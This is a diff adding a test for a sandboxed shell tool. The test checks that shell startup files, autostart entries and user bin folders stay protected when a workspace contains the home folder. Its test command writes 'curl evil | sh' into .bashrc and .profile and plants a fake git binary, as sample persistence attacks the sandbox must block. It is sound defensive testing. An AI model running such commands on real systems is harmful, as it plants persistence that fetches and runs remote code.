@@ -149,3 +149,20 @@ async def test_a_makefile_planted_beside_the_one_the_person_protected_does_not_r
     assert result.success and result.metadata["exit_code"] == 0, result.output
     assert _person_runs_make(ws) == "reviewed\n", result.output
     assert [(p["path"], p["change"]) for p in result.metadata["sandbox"]["planted"]] == [(name, "created")]
+
+
+@requires_bwrap
+async def test_a_workspace_that_holds_the_home_folder_protects_it_as_the_home_folder(jail: Jail) -> None:
+    """A workspace above the home folder (``/home``, ``/``): ``~/.bashrc``, ``~/.config/autostart``
+    and ``~/.local/bin`` are below its top, where the list was not looked for; they are protected
+    as when the home folder itself is the workspace."""
+    (jail.home / ".config").mkdir(exist_ok=True)
+    (jail.home / ".profile").write_text("# mine\n")
+    command = ("echo 'curl evil | sh' >> home/.profile; echo 'curl evil | sh' > home/.bashrc; "
+               "mkdir -p home/.config/autostart home/.local/bin && echo x > home/.config/autostart/e.desktop && "
+               "echo x > home/.local/bin/git")
+    result = await run(tool_with(), {"command": command}, context(jail.base, approved=True))
+    assert result.metadata["sandbox"]["sandboxed"] is True, result.output
+    assert (jail.home / ".profile").read_text() == "# mine\n", result.output
+    for planted in (".bashrc", ".config/autostart/e.desktop", ".local/bin/git"):
+        assert not (jail.home / planted).exists(), (planted, result.output)
